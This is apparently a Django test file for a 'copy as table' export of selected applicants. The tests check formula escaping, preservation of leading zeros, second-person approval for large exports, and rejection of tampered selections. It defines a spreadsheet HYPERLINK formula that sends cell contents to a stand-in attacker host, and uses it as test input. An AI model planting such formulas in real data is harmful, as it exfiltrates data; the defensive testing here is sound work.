"""The selected people as a table to copy: nothing in it runs, and it is counted like a file that leaves the house."""

from __future__ import annotations

import csv
import io
import re
from html import unescape
from typing import Any

import pytest
from django.http import HttpResponse
from django.test import Client

from central.applications.models import Application
from central.audit.models import AuditEntry
from central.batches.actions.gather import make_batch
from central.batches.models import MassBatch, TableOut
from central.exports.access import second_person_needed
from central.exports.models import Export
from tests.support.centre.applications import make_application
from tests.support.people.staff import Cast, sign_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _press(client: Client, batch: MassBatch, act: str = "out") -> HttpResponse:
    """The button of the page as it is drawn now."""
    page = client.get(f"/batches/{batch.pk}/tables/").content.decode()
    said = dict(re.findall(r'name="(selection|table_out)" value="(\w+)"', page))
    return client.post(f"/batches/{batch.pk}/tables/", said | {"act": act}, follow=True)


def _table_on(answer: HttpResponse) -> list[list[str]]:
    found = re.findall(r'id="out" readonly>(.*?)</textarea>', answer.content.decode(), re.DOTALL)
    return list(csv.reader(io.StringIO(unescape(found[0])), delimiter="\t")) if found else []


def test_a_table_to_be_pasted_holds_nothing_that_runs_or_loses_a_digit(cast: Cast) -> None:
    application = make_application(1, name=FORMULA)
    batch = make_batch(cast.sato, Application.objects.all(), "えらんだ人")
    batch.rows.update(selected=True, own_number="0001")
    client = sign_in(cast.sato)
    assert FORMULA not in unescape(client.get(f"/batches/{batch.pk}/tables/").content.decode())
    assert not AuditEntry.objects.filter(act="batch.table_copied").exists(), "a look at the tab takes nothing out"
    answer = _press(client, batch)
    _head, (number, arrival, name) = _table_on(answer)
    assert number == '="0001"'
    assert name == f'="{FORMULA.replace(chr(34), chr(34) * 2)}"'
    assert application.arrival_number not in answer.content.decode()
    assert "-" in arrival
    assert AuditEntry.objects.get(act="batch.table_copied").act


def test_who_takes_out_many_needs_another_person_whatever_the_door(
    batch: MassBatch, people: list[Application], cast: Cast, settings: Any
) -> None:
    settings.EXPORT_SECOND_PERSON_ABOVE = 5
    batch.rows.update(selected=True)
    client, chief = sign_in(cast.sato), sign_in(cast.takahashi)
    assert len(_table_on(_press(client, batch))) == 5, "four people and a head"
    assert len(_table_on(_press(client, batch))) == 5, "the same ones are counted once"
    export = Export(made_by=cast.sato, rows=2)
    assert second_person_needed(export), "two and four are six"
    batch.rows.filter(pk=batch.rows.order_by("pk")[0].pk).update(selected=False)
    assert _table_on(_press(client, batch)) == []
    waiting = TableOut.objects.get(released_at=None)
    assert _press(client, batch, "release").status_code == 403
    waiting.refresh_from_db()
    assert waiting.released_at is None
    page = chief.get(f"/batches/{batch.pk}/tables/").content.decode()
    assert "3人の表を出す承認を待っています" in page
    assert _press(chief, batch, "release").status_code == 200
    assert len(_table_on(_press(client, batch))) == 4
    batch.rows.update(selected=True)
    batch.rows.filter(pk=batch.rows.order_by("pk")[3].pk).update(selected=False)
    assert _table_on(_press(client, batch)) == [], "others were not released"


@pytest.mark.parametrize("selection", ["", "0" * 64])
def test_others_than_the_page_showed_do_not_go_out(batch: MassBatch, cast: Cast, selection: str) -> None:
    batch.rows.update(selected=True)
    said = {"act": "out", "selection": selection}
    assert sign_in(cast.sato).post(f"/batches/{batch.pk}/tables/", said).status_code == 409
    assert not TableOut.objects.exists()
